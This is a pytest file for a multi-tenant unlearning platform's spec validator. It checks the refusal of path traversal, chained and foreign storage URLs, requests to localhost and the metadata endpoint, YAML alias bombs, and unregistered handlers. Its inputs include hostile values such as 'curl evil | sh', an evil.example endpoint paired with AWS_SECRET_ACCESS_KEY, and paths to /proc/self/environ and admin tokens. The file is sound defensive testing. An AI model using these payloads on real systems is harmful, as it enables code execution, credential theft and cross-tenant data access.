"""A tenant's spec is data: registered names only, locations inside the tenant's prefixes, no
platform-owned keys, and errors that never quote record text."""

from __future__ import annotations

import json
import typing

import pytest
from pydantic import BaseModel

from meow.pipeline.spec import PipelineSpec, load_spec
from meow.train.methods import METHODS
from meow_platform.policy import SpecRejected, check_spec, normalize_location

ROOT = "/srv/meow/artifacts"
ACME = [f"{ROOT}/acme", "s3://shared-models/base"]


def test_registered_names_and_own_locations_are_accepted(tmp_path):
    spec = f"""
model: {ROOT}/acme/models/tiny
forget: {{source: s3://shared-models/base/../base/forget.jsonl}}
unlearn: {{method: meow, train: {{workers: 1, cpus_per_worker: 1}}}}
memo: {{actors: 1}}
invert: {{actors: 1}}
"""
    with pytest.raises(SpecRejected) as rejected:
        check_spec(spec, ACME)
    assert rejected.value.code == "forbidden_location", "'..' in a URI is refused, not interpreted"
    accepted = check_spec(spec.replace("base/../base", "base"), ACME)
    assert (accepted.workers, accepted.cpus, accepted.gpus) == (1, 1.0, 0.0)


@pytest.mark.parametrize(
    "location",
    [
        f"{ROOT}/other/models/tiny",  # another tenant's prefix
        f"{ROOT}/acme-evil/models/tiny",  # a sibling sharing the name as a string prefix
        f"{ROOT}/acme/../other/models/tiny",  # escaping with ..
        "models/tiny",  # relative: would resolve against the driver's working directory
        "s3://shared-models/base-evil/m",
        "s3://other-bucket/acme/m",
    ],
)
@pytest.mark.parametrize("key", ["model", "forget.source", "invert.generator", "evaluate.oracle", "unlearn.retain"])
def test_locations_outside_the_tenants_prefixes_are_refused(location, key):
    section, _, field = key.rpartition(".")
    spec = f"{section}: {{{field}: {location}}}\n" if section else f"{field}: {location}\n"
    with pytest.raises(SpecRejected) as rejected:
        check_spec(spec, ACME)
    assert rejected.value.code == "forbidden_location"


def test_packaged_tofu_splits_are_not_locations():
    check_spec("forget: {source: forget05}\nunlearn: {retain: retain95, train: {workers: 1}}\n", ACME)


def test_a_symlink_inside_the_prefix_cannot_point_out_of_it(tmp_path):
    (tmp_path / "acme").mkdir()
    (tmp_path / "other").mkdir()
    (tmp_path / "acme" / "link").symlink_to(tmp_path / "other")
    with pytest.raises(SpecRejected):
        check_spec(f"model: {tmp_path}/acme/link/model\n", [str(tmp_path / "acme")])


@pytest.mark.parametrize(
    "spec, code",
    [
        ("unlearn: {method: 'os:system'}\n", "invalid_spec"),
        ("stages: [invert, exfiltrate]\n", "invalid_spec"),
        ("invert: {engine: {name: 'my.module:Engine'}}\n", "invalid_spec"),
        ("runtime_env: {pip: [evil]}\n", "invalid_spec"),
        ("entrypoint: 'curl evil | sh'\n", "invalid_spec"),
        ("ray: {address: 'ray://other-cluster:10001'}\n", "forbidden_key"),
        (
            "invert: {endpoint: {base_url: 'https://evil.example', model: m, api_key_env: AWS_SECRET_ACCESS_KEY}}\n",
            "forbidden_key",
        ),
    ],
)
def test_unregistered_handlers_and_platform_keys_are_refused(spec, code):
    with pytest.raises(SpecRejected) as rejected:
        check_spec(spec, ACME)
    assert rejected.value.code == code


def test_errors_name_key_and_line_but_never_quote_values():
    secret = "Basil Mahfouz Al-Kuwaiti was born in 1932"
    with pytest.raises(SpecRejected) as rejected:
        check_spec(f"seed: 1\nforget: {{source: forget01, question_field: 7, answer_field: [{secret!r}]}}\n", ACME)
    message = str(rejected.value)
    assert "line 2" in message and "forget.answer_field" in message
    assert secret not in message and "Basil" not in message


KEYS = ["model", "forget.source", "invert.generator", "evaluate.oracle", "unlearn.retain"]


def _spec_with(key: str, location: str) -> str:
    section, _, field = key.rpartition(".")
    value = json.dumps(location)  # a JSON string is a YAML double-quoted scalar: escapes survive
    return f"{section}: {{{field}: {value}}}\n" if section else f"{field}: {value}\n"


@pytest.fixture
def platform_dirs(tmp_path):
    """A platform data dir (lower-case, as the default `~/.cache/meow/platform` is) with its store,
    its admin token and two tenants' artifact prefixes."""
    data = tmp_path / "platform"
    root = data / "artifacts"
    for tenant in ("alpha", "bravo"):
        (root / tenant / "data").mkdir(parents=True)
    (root / "alpha" / "data" / "forget.jsonl").write_text('{"question": "q", "answer": "a"}\n')
    (data / "admin-token").write_text("secret")
    (data / "platform.db").write_text("")
    assert str(root) == str(root).lower(), "the original bug needs a lower-case artifact root"
    return data, root


def _check_as_bravo(spec: str, data, root, read_prefixes=()):
    return check_spec(
        spec,
        [f"{root}/bravo", *read_prefixes],
        artifact_root=str(root),
        platform_dir=str(data),
        protected=[str(data / "admin-token"), str(data / "platform.db")],
    )


@pytest.mark.parametrize("key", KEYS)
@pytest.mark.parametrize(
    "location",
    [
        "{root}/bravo/../alpha/data/forget.jsonl::memory://x.jsonl",  # the reported exploit
        "{root}/bravo/x::{root}/alpha/data/forget.jsonl",  # every link of a chain inside bravo's prefix but one
        "simplecache::{root}/alpha/data/forget.jsonl",
        "{data}/admin-token::memory://x",
        "{root}/bravo/../../admin-token",
        "{root}/bravo/../../platform.db",
        "memory://{root}/bravo/x.jsonl",
        "file://{root}/bravo/data/forget.jsonl",
        "local://{root}/bravo/data/forget.jsonl",
        "zip://forget.jsonl::{root}/bravo/data/a.zip",
        "s3a://bucket/bravo/x",
        "hf://datasets/locuslab/TOFU",
        "~/.cache/meow/platform/admin-token",
        "{root}/bravo/data/\x00forget.jsonl",  # a NUL byte: os.path.realpath raised ValueError (500)
        "{root}/bravo/data/forget.jsonl\n",
    ],
)
def test_chains_other_protocols_and_the_platforms_files_are_refused(platform_dirs, key, location):
    data, root = platform_dirs
    with pytest.raises(SpecRejected) as rejected:
        _check_as_bravo(_spec_with(key, location.format(root=root, data=data)), data, root)
    assert rejected.value.code == "forbidden_location"
    assert f"key {key}:" in str(rejected.value)


def test_the_platforms_files_and_other_tenants_stay_closed_under_a_broad_read_prefix(platform_dirs, tmp_path):
    data, root = platform_dirs
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "token-link").symlink_to(data / "admin-token")
    for location in (
        f"{data}/admin-token",
        f"{data}/platform.db",
        f"{data}/platform.db-wal",
        f"{data}/control-plane.log",
        f"{root}/alpha/data/forget.jsonl",
        f"{tmp_path}/shared/token-link",
        f"//{data}/admin-token",  # realpath keeps the `//`: it compared outside the platform's dir
        "/proc/self/environ",  # the job's environment: storage credentials
        "/proc/self/fd/3",
        "/dev/zero",
    ):
        with pytest.raises(SpecRejected) as rejected:
            _check_as_bravo(_spec_with("forget.source", location), data, root, read_prefixes=["/"])
        assert rejected.value.code == "forbidden_location", location
    # What the broad prefix is for still works, and so does bravo's own prefix.
    _check_as_bravo(_spec_with("forget.source", f"{tmp_path}/shared/forget.jsonl"), data, root, ["/"])
    _check_as_bravo(_spec_with("forget.source", f"{root}/bravo/data/forget.jsonl"), data, root)
    # A read prefix inside the artifact root (an explicit grant) opens that directory only.
    granted = [f"{root}/alpha/data"]
    _check_as_bravo(_spec_with("forget.source", f"{root}/alpha/data/forget.jsonl"), data, root, granted)


@pytest.mark.parametrize(
    "location, accepted",
    [
        ("https://models.example/shared/tiny", True),
        ("https://MODELS.example:443/shared/tiny/", True),
        ("https://models.example/shared/../private/tiny", False),
        ("https://models.example/shared/%2e%2e/private/tiny", False),
        ("https://models.example/shared//tiny", False),
        ("https://user:pw@models.example/shared/tiny", False),
        ("https://models.example/shared/tiny?x=1", False),
        ("https://models.example.evil/shared/tiny", False),
        ("https://models.example:8443/shared/tiny", False),
        ("http://models.example/shared/tiny", False),
        ("s3://shared-models/base//tiny", False),
        ("s3://shared-models/base/tiny?versionId=1", False),
        ("s3://shared-models/base/tiny", True),
    ],
)
def test_remote_locations_are_compared_by_their_parts(location, accepted):
    prefixes = [*ACME, "https://models.example/shared"]
    if accepted:
        check_spec(_spec_with("model", location), prefixes)
        return
    with pytest.raises(SpecRejected) as rejected:
        check_spec(_spec_with("model", location), prefixes)
    assert rejected.value.code == "forbidden_location"


@pytest.mark.parametrize(
    "host", ["127.0.0.1:8700", "localhost:8700", "127.1", "2130706433", "[::1]", "169.254.169.254", "0.0.0.0"]
)
def test_http_to_this_host_or_link_local_is_refused_even_when_granted(host):
    prefix = f"http://{host}/models"
    with pytest.raises(SpecRejected):
        check_spec(_spec_with("model", f"{prefix}/tiny"), [prefix])
    assert normalize_location(prefix) is None, "nor can an admin grant it as a read prefix"


def test_every_string_in_a_spec_is_a_checked_location_or_known_not_to_be_one():
    """A new path-like field must be confined too: each `str` field of the schema is either one of
    the locations the policy checks or listed here as not naming a location."""
    not_locations = {
        "name",
        "stages",
        "prepare.train.lora.targets",
        "unlearn.train.lora.targets",
        "unlearn.method_args",  # each method's own typed arguments: checked below
        "forget.format",
        "forget.question_field",
        "forget.answer_field",
        "unlearn.method",
        "ray.address",  # refused outright (forbidden_key)
        "invert.endpoint.base_url",  # refused outright (forbidden_key)
        "invert.endpoint.model",
        "invert.endpoint.api_key_env",
    }
    everywhere = load_spec("".join(_spec_with(key, "/x") for key in KEYS))
    assert {key for key, _ in everywhere.locations()} == set(KEYS)
    found = set(_string_fields(PipelineSpec))
    assert found - not_locations == set(KEYS), "classify the new string field: location or not"
    for method in METHODS.names():
        assert not set(_string_fields(METHODS.get(method).args)), f"method {method} takes a string argument"


def _string_fields(model, prefix: str = ""):
    for name, info in model.model_fields.items():
        types = [info.annotation, *typing.get_args(info.annotation)]
        for t in types:
            if isinstance(t, type) and issubclass(t, BaseModel):
                yield from _string_fields(t, f"{prefix}{name}.")
        if str in types or any(str in typing.get_args(t) for t in types if typing.get_origin(t) is tuple):
            yield f"{prefix}{name}"


DEEP_JSON: dict = {}
_level = DEEP_JSON
for _ in range(400):
    _level["unlearn"] = {}
    _level = _level["unlearn"]


@pytest.mark.parametrize(
    "spec",
    [
        DEEP_JSON,  # yaml.safe_dump recursed (500)
        "[" * 3000,  # the composer recursed (500)
        "unlearn: {method_args: " + "{a: " * 40 + "1" + "}" * 41 + "\n",
        "a: &a [x, x, x, x, x, x, x, x, x, x]\n"  # aliases expanding to 10^9 values
        + "".join(f"{c}: &{c} [{', '.join(['*' + p] * 10)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)),
        "unlearn: &u {retain: *u}\n",
        "seed: 2026-13-45\n",  # a timestamp the constructor cannot build (ValueError)
        {"forget": {"source": "/srv/meow/artifacts/acme/\x00.jsonl"}},
        {"forget": {"source": "/srv/meow/artifacts/acme/\ud800.jsonl"}},  # UnicodeEncodeError (500)
        "stages: [evaluate]\nevaluate: {cpus_per_actor: .inf}\n",  # passes gt=0; its 422 could not be JSON (500)
        "unlearn: {train: {epochs: .inf}}\n",  # a job that never ends
        "seed: 1  # \ud800\n",  # the YAML reader refused it outside the error handling (500)
    ],
)
def test_hostile_specs_are_refused_not_crashed_on(spec):
    with pytest.raises(SpecRejected) as rejected:
        check_spec(spec, ACME)
    assert rejected.value.code in ("invalid_spec", "forbidden_location")


def test_specs_are_bounded_in_size_before_they_are_parsed():
    padding = "# " + "x" * 1000 + "\n"
    check_spec(padding * 60, ACME)
    with pytest.raises(SpecRejected) as rejected:
        check_spec(padding * 70, ACME)
    assert rejected.value.code == "spec_too_large" and "at most 65536" in str(rejected.value)
    with pytest.raises(SpecRejected) as rejected:
        check_spec({"name": "x" * 2000}, ACME, max_bytes=1024)
    assert rejected.value.code == "spec_too_large"


def test_a_json_spec_is_stored_as_the_yaml_the_job_runs():
    accepted = check_spec({"stages": ["invert"], "invert": {"actors": 1}}, ACME)
    assert accepted.text == "stages:\n- invert\ninvert:\n  actors: 1\n"


@pytest.mark.parametrize(
    "spec, needs",
    [
        ("stages: [evaluate]\nevaluate: {actors: 100, cpus_per_actor: 8}\n", (0, 800, 0)),
        ("stages: [evaluate]\nevaluate: {actors: 2, gpus_per_actor: 1}\n", (0, 2, 2)),
        ("stages: [invert]\ninvert: {actors: 3, gpus_per_actor: 0.5}\n", (0, 3, 1.5)),
        ("stages: [memo]\nmemo: {actors: 5, gpus_per_actor: 1}\n", (0, 5, 5)),
        ("stages: [unlearn]\nunlearn: {train: {workers: 3, cpus_per_worker: 2, gpus_per_worker: 1}}\n", (3, 6, 3)),
        ("stages: [prepare]\nprepare: {train: {workers: 4}}\n", (4, 4, 0)),
        # Stages a run does not list ask for nothing.
        ("stages: [select]\nevaluate: {actors: 100}\nunlearn: {train: {workers: 9}}\n", (0, 0, 0)),
    ],
)
def test_resources_count_every_stages_workers_and_actors(spec, needs):
    accepted = check_spec(spec, ACME)
    assert (accepted.workers, accepted.cpus, accepted.gpus) == needs


@pytest.mark.parametrize(
    "prefix, reason",
    [
        ("models/shared", "not absolute"),
        ("s3://bucket/../other", "'..'"),
        ("http://127.0.0.1:8700/models", "this host"),
        ("memory://models", "protocol 'memory'"),
        ("/srv/models::memory://x", "chained"),
    ],
)
def test_read_prefixes_an_admin_grants_are_parsed_like_locations(prefix, reason):
    from pydantic import ValidationError

    from meow_platform.api.schemas import TenantCreate

    with pytest.raises(ValidationError) as refused:
        TenantCreate(name="acme", read_prefixes=[prefix])
    assert reason in str(refused.value)


def test_the_platforms_token_files_and_store_are_protected_wherever_they_are(tmp_path):
    from meow_platform.settings import Settings

    settings = Settings(
        data_dir=tmp_path / "platform",
        admin_token_file=tmp_path / "secrets" / "admin",
        metrics_token_file=tmp_path / "secrets" / "metrics",
        database_url=f"sqlite:///{tmp_path}/db/store.db",
    )
    files = settings.platform_files()
    for path in ("secrets/admin", "secrets/metrics", "db/store.db", "db/store.db-wal", "platform/admin-token"):
        assert str(tmp_path / path) in files, path
    with pytest.raises(SpecRejected):
        check_spec(_spec_with("model", f"{tmp_path}/secrets/metrics"), [str(tmp_path)], protected=files)


def test_an_s3_artifact_root_keeps_tenants_apart_under_a_broad_grant():
    root = "s3://meow-artifacts/platform"
    grants = [f"{root}/bravo", "s3://meow-artifacts"]  # bravo's own prefix, and a whole-bucket grant
    check_spec(_spec_with("model", f"{root}/bravo/models/tiny"), grants, artifact_root=root)
    check_spec(_spec_with("model", "s3://meow-artifacts/shared/tiny"), grants, artifact_root=root)
    for location in (f"{root}/alpha/data/forget.jsonl", f"{root}//alpha/x", f"{root}/bravo/../alpha/x"):
        with pytest.raises(SpecRejected):
            check_spec(_spec_with("forget.source", location), grants, artifact_root=root)
